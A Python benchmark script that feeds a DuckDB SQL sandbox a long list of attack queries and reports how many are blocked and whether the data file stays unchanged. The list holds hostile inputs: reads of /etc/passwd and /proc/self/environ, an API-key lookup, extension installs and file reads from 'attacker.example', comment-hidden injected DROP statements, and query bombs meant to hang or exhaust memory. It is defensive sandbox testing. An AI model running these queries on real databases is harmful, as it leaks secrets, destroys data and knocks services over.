"""Queries that try to read, write, leak, hang or blow up what an expert's query may not touch.

    python -m benchmarks.words.attacks

Prints how many were blocked, the slowest one, and whether the data file is what it was.
"""

from __future__ import annotations

import hashlib
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Final

import pyarrow as pa
import pyarrow.parquet as pq

from core.base.errors import Beha2VecError
from core.sql.sandbox import SqlLimits, run_sql

TOO_SLOW_S: Final = 5.0
BOMB: Final = ", ".join(
    f"c{n} AS (SELECT a.x || a.x || a.x || a.x AS x FROM c{n - 1} a)" for n in range(1, 30)
)
JOINED: Final = ", ".join(f"segments s{n}" for n in range(30))
SLOW: Final = ", ".join(f"segments s{n}" for n in range(11))

ATTACKS: Final = (
    # write
    "DROP TABLE segments",
    "DELETE FROM segments",
    "UPDATE segments SET users = 0",
    "INSERT INTO segments VALUES ('x', 1)",
    "TRUNCATE segments",
    "ALTER TABLE segments ADD COLUMN x INT",
    "CREATE TABLE x AS SELECT 1",
    "CREATE TEMP TABLE x AS SELECT * FROM segments",
    "CREATE OR REPLACE VIEW segments AS SELECT 1",
    "CREATE MACRO f(x) AS x",
    "CREATE SECRET s (TYPE s3, KEY_ID 'k', SECRET 'x')",
    "MERGE INTO segments USING segments b ON true WHEN MATCHED THEN DELETE",
    "WITH gone AS (DELETE FROM segments RETURNING *) SELECT * FROM gone",
    "COPY segments TO '{data}'",
    "COPY (SELECT 1) TO '/tmp/out.csv'",
    "COPY segments FROM '{data}'",
    "EXPORT DATABASE '/tmp/out'",
    "IMPORT DATABASE '/tmp/out'",
    "VACUUM",
    "CHECKPOINT",
    "FORCE CHECKPOINT",
    "BEGIN TRANSACTION",
    # reach other files, databases, programs or the network
    "ATTACH '{data}' AS other",
    "ATTACH ':memory:' AS other",
    "DETACH views",
    "USE memory",
    "INSTALL httpfs",
    "LOAD httpfs",
    "FORCE INSTALL json FROM 'http://attacker.example'",
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM read_csv_auto('/etc/passwd', sep = ':')",
    "SELECT content FROM read_text('/etc/passwd')",
    "SELECT read_text('/etc/passwd')",
    "SELECT * FROM read_blob('/etc/hostname')",
    "SELECT * FROM read_parquet('{data}')",
    "SELECT * FROM parquet_scan('{data}')",
    "SELECT * FROM parquet_metadata('{data}')",
    "SELECT * FROM '{data}'",
    "SELECT * FROM \"{data}\"",
    "SELECT * FROM read_json('/proc/self/environ')",
    "SELECT * FROM glob('/**')",
    "SELECT * FROM read_csv('https://attacker.example/?q=1')",
    "SELECT * FROM 'https://attacker.example/x.parquet'",
    "SELECT * FROM sniff_csv('/etc/passwd')",
    "SELECT * FROM arrow_scan(1, 2, 3)",
    "SELECT * FROM pandas_scan(1)",
    "SELECT * FROM python_map_function(1)",
    "SELECT * FROM sqlite_scan('x.db', 't')",
    # leak where things are, how they are set, who asks
    "PRAGMA database_list",
    "PRAGMA show_tables",
    "PRAGMA enable_profiling",
    "SELECT current_setting('temp_directory')",
    "SELECT getenv('OPENAI_API_KEY')",
    "SELECT * FROM duckdb_settings()",
    "SELECT * FROM duckdb_databases()",
    "SELECT path FROM pragma_database_list()",
    "SELECT * FROM pragma_database_list",
    "SELECT * FROM duckdb_tables",
    "SELECT * FROM information_schema.tables",
    "SELECT * FROM sqlite_master",
    "SELECT * FROM pg_catalog.pg_class",
    "SELECT * FROM pg_settings",
    "SELECT * FROM duckdb_secrets()",
    "SELECT * FROM duckdb_tables, (WITH duckdb_tables AS (SELECT 1) SELECT * FROM duckdb_tables)",
    "SELECT current_database(), current_user, version()",
    "SHOW TABLES",
    "SHOW ALL TABLES",
    "SHOW DATABASES",
    "DESCRIBE segments",
    "SUMMARIZE segments",
    "CALL duckdb_settings()",
    "EXPLAIN SELECT 1",
    "EXPLAIN ANALYZE SELECT * FROM segments",
    "SELECT * FROM query('SELECT * FROM duckdb_settings()')",
    "SELECT * FROM query_table('duckdb_settings')",
    "SELECT * FROM views.main.segments",
    "SELECT * FROM main.segments",
    "SELECT * FROM json_execute_serialized_sql('{}')",
    "SELECT error('x')",
    # unlock
    "SET lock_configuration = false",
    "SET enable_external_access = true",
    "RESET memory_limit",
    "SET VARIABLE x = 1",
    "PREPARE p AS SELECT 1",
    "EXECUTE p",
    "DEALLOCATE p",
    # more than one statement, and hiding one
    "SELECT 1; DROP TABLE segments",
    "SELECT 1; SELECT 2",
    "",
    ";",
    "-- only a comment",
    "SELECT 1 /* ; */ ; /* */ DROP TABLE segments --",
    "SELECT 1 -- \n; DELETE FROM segments",
    "SELECT $$ ; $$; CHECKPOINT",
    "SELECT * FROM segments) LIMIT 1; DROP TABLE segments; --",
    "/*/**/ SELECT 1 */ DROP TABLE segments",
    "SELECT cu/**/rrent_setting('temp_directory')",
    "SELECT \"current_setting\"('temp_directory')",
    "SELECT CURRENT_SETTING('temp_directory')",
    "SELECT system.main.current_setting('temp_directory')",
    "SELECT 'temp_directory'.current_setting()",
    "SELECT users.repeat(1000000000) FROM segments",
    "SELECT * FROM segments WHERE segment = getvariable('x')",
    "FROM duckdb_settings() SELECT name",
    "PIVOT segments ON segment USING sum(users)",
    "SELECT \0 1",
    # hang
    "WITH RECURSIVE r AS (SELECT 1 AS a UNION ALL SELECT a + 1 FROM r) SELECT count(*) FROM r",
    "WITH RECURSIVE r(a) USING KEY (a) AS (SELECT 1 UNION SELECT a + 1 FROM r) SELECT * FROM r",
    "SELECT count(*) FROM range(1000000000000)",
    "SELECT * FROM generate_series(1, 1000000000000)",
    "SELECT unnest(range(1000000000))",
    f"SELECT count(*) FROM {JOINED}",
    f"SELECT sum(s0.users * s29.users) FROM {JOINED} WHERE s1.users > s2.users OR s3.users < s4.users",
    f"SELECT s0.users FROM {JOINED} ORDER BY s1.users * s2.users",
    f"SELECT count(*) FROM {SLOW} WHERE (s0.users * s1.users) % 7 <= s10.users % 9",
    f"SELECT max(s0.users * s1.users - s9.users * s10.users) FROM {SLOW}",
    f"SELECT DISTINCT s0.users + s1.users + s10.users AS x FROM {SLOW} ORDER BY x",
    "SELECT sleep_ms(100000)",
    # blow up
    "SELECT repeat('x', 2000000000)",
    "SELECT length(repeat('x', 2e9::BIGINT))",
    "SELECT lpad('x', 2000000000, 'y')",
    "SELECT format('{:2000000000}', 1)",
    "SELECT printf('%2000000000d', 1)",
    f"WITH c0 AS (SELECT segment AS x FROM segments), {BOMB} SELECT length(x) FROM c29",
    f"WITH c0 AS (SELECT segment AS x FROM segments), {BOMB} SELECT x FROM c12",
    "SELECT string_agg(a.segment) FROM segments a, segments b, segments c, segments d, segments e, "
    + "segments f, "
    + "segments g, segments h, segments i, segments j, segments k, segments l, segments m, segments n",
    "SELECT " + "(" * 4900 + "1" + ")" * 4900,
    "SELECT 1 WHERE " + "NOT " * 2400 + "(1 = 1)",
    "SELECT 1" + "+1" * 4800,
    "SELECT " + "[" * 900 + "1" + "]" * 900,
    "SELECT " + "(SELECT " * 150 + "1" + ")" * 150,
    "SELECT 'x'" + ", 'x'" * 6000,
)  # fmt: skip


@dataclass(frozen=True)
class Outcome:
    """What became of one attack.

    Args:
        sql: The attack.
        blocked: Whether it ended in an error of ours.
        seconds: Until it did.
        said: The error, or the rows that were given.
    """

    sql: str
    blocked: bool
    seconds: float
    said: str


def made_data(folder: Path) -> Path:
    """A small aggregate file to be attacked."""
    names = [f"Segment {number}" for number in range(1, 13)]
    path = folder / "segments.parquet"
    pq.write_table(pa.table({"segment": names, "users": list(range(100, 112))}), path)
    return path


def attack(sql: str, data: Path, limits: SqlLimits | None = None) -> Outcome:
    """Run one."""
    started = time.monotonic()
    try:
        said, blocked = str(run_sql(sql, {"segments": data}, limits).table.to_pylist()[:3]), False
    except Beha2VecError as error:
        said, blocked = str(error), True
    return Outcome(sql, blocked, time.monotonic() - started, said)


def digest(path: Path) -> str:
    """SHA-256 of a file."""
    return hashlib.sha256(path.read_bytes()).hexdigest()


def main() -> None:
    """Run them all and print what became of them."""
    with tempfile.TemporaryDirectory() as folder:
        data = made_data(Path(folder))
        before = digest(data)
        outcomes = [attack(sql.replace("{data}", str(data)), data) for sql in ATTACKS]
        unchanged = digest(data) == before
    for outcome in outcomes:
        if not outcome.blocked:
            print(f"NOT BLOCKED: {outcome.sql[:100]} -> {outcome.said[:200]}")
    slowest = max(outcomes, key=lambda outcome: outcome.seconds)
    print(f"{sum(outcome.blocked for outcome in outcomes)} of {len(outcomes)} attacks blocked")
    print(f"slowest: {slowest.seconds:.1f} s ({slowest.sql[:60]!r}); data file unchanged: {unchanged}")
    print(f"all: {sum(outcome.seconds for outcome in outcomes):.0f} s")


if __name__ == "__main__":
    main()
